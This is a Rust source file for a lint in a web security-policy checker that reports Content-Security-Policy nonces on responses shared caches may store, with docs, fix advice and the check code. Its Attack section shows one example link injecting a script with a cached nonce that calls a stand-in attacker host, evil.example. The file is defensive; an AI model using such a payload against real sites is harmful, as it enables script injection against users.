use crate::csp::{Clause, SourceExpression};
use crate::diagnostic::{Diagnostic, Level};
use crate::header::Field;
use crate::lint::report::{Report, lint};
use crate::lint::shared_cache::kept_by;
use crate::policy::{Form, SecurityPolicy};
use crate::span::Span;

lint! {
    /// # What it does
    ///
    /// Looks for a policy with a nonce whose `cache_control` lets shared caches store the response: any without `private`
    /// and without `no_store`. `no_cache` and `max_age: 0s` are reported too: a cache that asks the server again and
    /// receives `304 Not Modified` sends the page that it stored, with its old nonce. So is `cache-control` in `remove`, which
    /// takes away the `private, no-store` of the layer.
    ///
    /// # Why it matters
    ///
    /// A nonce protects a page only while an attacker cannot know it. A shared cache (a CDN, a reverse proxy) sends the
    /// same page, with the same nonce, to everyone.
    ///
    /// # Attack
    ///
    /// The attacker requests the page and reads the nonce in the copy. A script of the page writes the fragment of its URL
    /// into the document. The attacker sends the user a link whose fragment has a script with that nonce, and the policy of
    /// the copy allows it:
    ///
    /// ```text
    /// https://shop.example.com/search#<script nonce="4AEemGb0xJptoIGFP3Nd">fetch("https://evil.example/")</script>
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { script_src: nonce },
    /// cache_control: { public, max_age: 1h },
    /// ```
    ///
    /// # Fix
    ///
    /// ```text
    /// content_security_policy: { script_src: nonce },
    /// cache_control: { private, no_cache },
    /// ```
    ///
    /// Without a declared `cache_control`, `apply` and the adapters send `private, no-store` with every response that has a
    /// nonce. A declared `cache_control` overrides that. On a page that has to be cached, list the hashes of its scripts
    /// instead of a nonce.
    ///
    /// # Allow
    ///
    /// Reasonable where the cache itself fills in a new nonce for each response.
    ///
    /// ```text
    /// #[allow(cache_nonce, reason = "a worker in the CDN replaces the nonce in each copy")]
    /// cache_control: { public, max_age: 1h },
    /// ```
    ///
    /// # References
    ///
    /// - [CSP3, section 7.1: nonce reuse](https://w3c.github.io/webappsec-csp/#security-nonces)
    /// - [RFC 9111, section 3: storing responses in caches](https://www.rfc-editor.org/rfc/rfc9111#section-3)
    /// - [MDN, `Cache-Control`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Cache-Control)
    Deny "a nonce in a response that shared caches may store",
    cwe [344, 524], asvs ["3.4.3"],
    check
}
fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    // A response that runs no script has no nonce that an attacker could reuse.
    if !carries_nonce(policy) || (policy.form == Form::Response && !policy.serves_pages()) {
        return;
    }
    if policy.form == Form::Response && !policy.has(Field::CacheControl) {
        report.push_at(Level::Warn, finding(policy.name, "without `cache_control`, shared caches may"));
    }
    for what in kept_by(policy) {
        report.push(finding(what.span, &format!("`{}` lets shared caches", what.node)));
    }
}

fn finding(span: Span, cause: &str) -> Diagnostic {
    Diagnostic::finding(span, format!("{cause} store this response, and its nonce with it"))
        .help("write `cache_control: { private, no_cache }`, or `no_store`; on a page that has to be cached, list hashes instead of `nonce`")
        .note("an attacker can read the nonce in the stored copy and put it on an injected script")
}

/// Whether the response carries a nonce: a `nonce` in a declaration, a concrete nonce in a response.
fn carries_nonce(policy: &SecurityPolicy) -> bool {
    let is_nonce = |source: &SourceExpression| match source {
        SourceExpression::Nonce => true,
        SourceExpression::FixedNonce(_) => policy.form == Form::Response,
        _ => false,
    };
    policy.clauses().into_iter().flat_map(Clause::sources).any(|source| is_nonce(&source.node))
}
